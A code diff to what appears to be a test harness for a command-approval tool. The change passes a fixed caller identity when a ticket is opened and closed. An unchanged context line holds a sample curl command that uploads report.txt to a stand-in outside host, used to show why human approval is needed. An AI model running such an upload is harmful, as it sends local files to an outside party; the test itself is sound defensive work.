@@ -41,6 +41,7 @@ from interlock.model.action import Action, Principal
 from interlock.model.errors import Refused
 
 LAUNCHER = Path(sys.executable).with_name("interlock-run")
+_US = Peer(os.getpid(), os.getuid())
 ATTACKER = Path(__file__).with_name("attacker.py")
 NEVER = "if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi"  # why a person is asked
 
@@ -131,14 +132,14 @@ class House:
             return Result(False, "")
         ticket = shlex.split(answer.command.partition(";")[0])[-1]
         try:
-            raw = await self.bound.open(ticket, Peer(os.getpid(), os.getuid()))
+            raw = await self.bound.open(ticket, _US)
         except Refused:
             return Result(False, "")
         plan = self.base / "plan"
         plan.write_bytes(raw)
         before()
         done = self.spawn([str(LAUNCHER), "--bound-plan", str(plan)], str(self.project))
-        await self.bound.close(ticket, done.returncode, drifted=done.returncode == 125)
+        await self.bound.close(ticket, done.returncode, _US, drifted=done.returncode == 125)
         return Result(done.returncode != 125, done.stdout + done.stderr)
 
     def spawn(self, argv: list[str], cwd: str) -> subprocess.CompletedProcess[str]:
